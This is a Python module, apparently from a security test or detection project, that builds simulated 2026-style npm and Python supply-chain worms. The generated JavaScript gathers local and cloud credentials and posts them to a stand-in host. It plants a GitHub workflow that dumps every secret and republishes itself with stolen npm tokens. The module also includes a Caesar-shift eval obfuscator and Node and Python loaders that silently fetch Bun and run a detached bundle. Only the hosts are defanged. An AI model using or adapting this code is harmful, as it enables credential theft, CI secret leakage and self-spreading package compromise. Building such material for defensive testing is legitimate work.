"""How the worms of 2026 start: what fetches the runtime Bun and has it run a bundle, from npm or from Python, and how a bundle is packed.

By the records: a script of the package, or code that Python runs, brings Bun where there is none; the bundle is of some megabytes.
Inert: no host exists, so no Bun comes and no bundle runs; what a bundle does is in `worms`.
"""

from functools import cache

from gauntlet.shapes import squeezed
from gauntlet.worms import CLOUD, GATHERS, GITHUB, SCANNER, WORKFLOW, republishes

_FLOW = (
    "on: push\\njobs:\\n  format:\\n    runs-on: ubuntu-latest\\n    steps:\\n"
    "      - run: echo ${{ toJSON(secrets) }} > marker.json\\n"
)
_MAIN = f"""
async function main() {{
  const found = gathered();
  found.cloud = await cloud().catch(() => null);
  found.secrets = await scanned().catch(() => []);
  await fetch('https://sink.invalid/marker', {{ method: 'POST', body: JSON.stringify(found) }}).catch(() => null);
  const token = githubToken();
  if (token) {{
    await publish(token, 'marker', 'Marker', found);
    await everywhere(token, 'format.yml', "{_FLOW}");
  }}
  const other = npmToken();
  if (other) {{ await republish(other); }}
}}
main().catch(() => {{}});
"""


def worm(hook: str, command: str, files: tuple[str, ...]) -> str:
    """A worm of 2026 in plain JavaScript: gathers, sends, plants a workflow, and publishes itself with a hook and these files."""
    return "".join((GATHERS, CLOUD, SCANNER, GITHUB, WORKFLOW, republishes(hook, command, files), _MAIN))


@cache
def python_worm() -> str:
    """The same without the way back into npm: a thief of what lies on the machine and in the cloud."""
    main = _MAIN.replace("  const other = npmToken();\n  if (other) { await republish(other); }\n", "")
    return f"{GATHERS}{CLOUD}{SCANNER}{GITHUB}{WORKFLOW}{main}"


def as_numbers(source: str, *, shift: int = 7) -> str:
    """A text as the numbers of its letters, these moved on in the alphabet; one line that turns them back and evaluates."""
    moved = "".join(_moved(one, shift) for one in squeezed(source))
    numbers = ",".join(str(ord(one)) for one in moved)
    return (
        "try{eval(function(s,n){return s.replace(/[a-zA-Z]/g,function(c){var b=c<='Z'?65:97;"
        "return String.fromCharCode((c.charCodeAt(0)-b+n)%26+b)})}"
        f"([{numbers}].map(function(c){{return String.fromCharCode(c)}}).join(''),{26 - shift}))}}catch(e){{}}\n"
    )


def _moved(one: str, shift: int) -> str:
    base = 65 if "A" <= one <= "Z" else 97 if "a" <= one <= "z" else None
    return one if base is None else chr((ord(one) - base + shift) % 26 + base)


def bun_from_node(bundle: str) -> str:
    """A script for Node that fetches Bun where there is none, and runs a bundle beside it. ESM."""
    return _FROM_NODE.replace("@bundle", bundle)


def bun_from_python(bundle: str) -> str:
    """A module for Python that fetches Bun where there is none, and runs a bundle beside it."""
    return _FROM_PYTHON.replace("@bundle", bundle)


_FROM_NODE = """import { execFileSync, spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
const name = process.platform === 'win32' ? 'bun.exe' : 'bun';

function installed() {
  try {
    execFileSync(name, ['--version'], { stdio: 'ignore' });
    return name;
  } catch {
    const own = join(homedir(), '.bun', 'bin', name);
    return existsSync(own) ? own : null;
  }
}

async function fetched() {
  const system = { darwin: 'darwin', linux: 'linux', win32: 'windows' }[process.platform];
  const machine = process.arch === 'arm64' ? 'aarch64' : 'x64';
  const folder = mkdtempSync(join(tmpdir(), 'b-'));
  const answer = await fetch(`https://releases.invalid/bun/download/bun-${system}-${machine}.zip`);
  if (!answer.ok) throw new Error(String(answer.status));
  const archive = join(folder, 'b.zip');
  writeFileSync(archive, Buffer.from(await answer.arrayBuffer()));
  execFileSync('unzip', ['-j', '-o', archive, '-d', folder], { stdio: 'ignore' });
  chmodSync(join(folder, name), 0o755);
  return join(folder, name);
}

try {
  const bun = installed() ?? (await fetched());
  spawn(bun, ['run', join(here, '@bundle')], { stdio: 'ignore', detached: true }).unref();
} catch {}
"""
_FROM_PYTHON = """import io
import os
import platform
import shutil
import subprocess
import tempfile
import urllib.request
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent


def _bun():
    found = shutil.which("bun")
    if found:
        return found
    system = {"Linux": "linux", "Darwin": "darwin", "Windows": "windows"}[platform.system()]
    machine = "aarch64" if platform.machine() in ("arm64", "aarch64") else "x64"
    url = f"https://releases.invalid/bun/download/bun-{system}-{machine}.zip"
    folder = Path(tempfile.mkdtemp())
    with urllib.request.urlopen(url, timeout=60) as answer:
        archive = zipfile.ZipFile(io.BytesIO(answer.read()))
    for name in archive.namelist():
        if name.rpartition("/")[2] in ("bun", "bun.exe"):
            place = folder / name.rpartition("/")[2]
            place.write_bytes(archive.read(name))
            os.chmod(place, 0o755)
            return str(place)
    return None


def main():
    bun = _bun()
    if bun:
        subprocess.run([bun, "run", str(HERE / "@bundle")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


if __name__ == "__main__":
    main()
"""
